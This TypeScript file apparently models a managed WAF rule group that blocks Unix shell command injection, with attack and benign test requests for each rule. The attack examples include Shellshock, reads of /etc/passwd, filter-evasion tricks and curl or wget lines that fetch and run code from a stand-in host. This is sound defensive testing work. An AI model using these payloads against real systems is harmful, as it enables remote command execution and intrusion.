import { unixShell } from '../detectors/shell/unix-shell.ts'
import { detectorRule } from './detector-rule.ts'
import { inCookie, inForm, inHeader, inJson, inQuery, inTarget } from './examples.ts'
import type { ManagedRuleGroup } from './rule.ts'

const prose = 'Salt & pepper; cat and dog | all on one table'

/** Requests that would run a command on a Unix machine. */
export const unix: ManagedRuleGroup = {
  vendorName: 'AWS',
  name: 'AWSManagedRulesUnixRuleSet',
  version: 'Version_1.0',
  description:
    "Stops requests that would run commands, or read variables, of a Unix machine's shell.",
  capacity: 100,
  labelNamespace: 'awswaf:managed:aws:posix-os:',
  rules: [
    detectorRule({
      name: 'UNIXShellCommandsVariables_QUERYSTRING',
      label: 'UNIXShellCommandsVariables_QueryString',
      components: ['queryArguments'],
      detectors: [unixShell],
      examples: {
        attack: [inTarget('/ping?host=1.1.1.1;cat%20/etc/passwd'), inTarget('/?a=x%0a/usr/bin/id')],
        benign: [inTarget('/?a=1&id=5&sort=price&cat=3'), inQuery(prose)],
      },
    }),
    detectorRule({
      name: 'UNIXShellCommandsVariables_QUERYARGUMENTS',
      label: 'UNIXShellCommandsVariables_QueryArguments',
      components: ['queryArguments'],
      detectors: [unixShell],
      examples: {
        attack: [
          inQuery('x|id'),
          inQuery('$(sleep 5)'),
          inQuery(";c'a't$IFS/etc/hostname"),
          inQuery('{cat,/etc/passwd}'),
          inQuery('/???/c?t /???/p?ss??'),
        ],
        benign: [
          inQuery(prose),
          inQuery('R&D | Sales'),
          inQuery('ls'),
          inQuery('it costs $5; buy it'),
        ],
      },
    }),
    detectorRule({
      name: 'UNIXShellCommandsVariables_HEADER',
      label: 'UNIXShellCommandsVariables_Header',
      components: ['headers', 'cookies'],
      detectors: [unixShell],
      examples: {
        attack: [
          inHeader('user-agent', '() { :; }; /bin/bash -c "id"'),
          inCookie('1;curl http://198.51.100.1/x|sh'),
          inHeader('x-forwarded-for', '127.0.0.1; ping -c 5 198.51.100.7'),
        ],
        benign: [
          inHeader('accept', 'text/html,*/*;q=0.8'),
          inHeader(
            'user-agent',
            'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
          ),
          inCookie('id; name'),
        ],
      },
    }),
    detectorRule({
      name: 'UNIXShellCommandsVariables_BODY',
      label: 'UNIXShellCommandsVariables_Body',
      components: ['body'],
      detectors: [unixShell],
      examples: {
        attack: [inForm('a && wget http://198.51.100.1/a.sh'), inJson('`id`')],
        benign: [
          inForm(prose),
          inJson('Use `git status`, and then `ls` to see what you have; it helps.'),
        ],
      },
    }),
  ],
}
